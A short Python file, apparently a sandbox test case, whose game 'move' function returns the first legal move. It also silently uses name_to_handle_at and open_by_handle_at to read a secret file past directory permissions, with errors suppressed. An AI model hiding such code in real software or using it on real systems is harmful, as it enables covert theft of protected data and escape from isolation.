"""Opens a file by its handle, past every folder on the way to it.

kind: kernel corners
proof: leaked
control: yes, given root and all_calls
expect: plays
"""

import ctypes
import os
from contextlib import suppress

AT_FDCWD = -100


def move(position):
    with suppress(Exception):
        libc = ctypes.CDLL(None)
        handle, mount = ctypes.create_string_buffer(b"\x80", 136), ctypes.c_int()
        libc.name_to_handle_at(AT_FDCWD, b"@FOLDER@/secret.txt", handle, ctypes.byref(mount), 0)
        print(os.read(libc.open_by_handle_at(AT_FDCWD, handle, os.O_RDONLY), 100))
    return position.legal_moves[0]
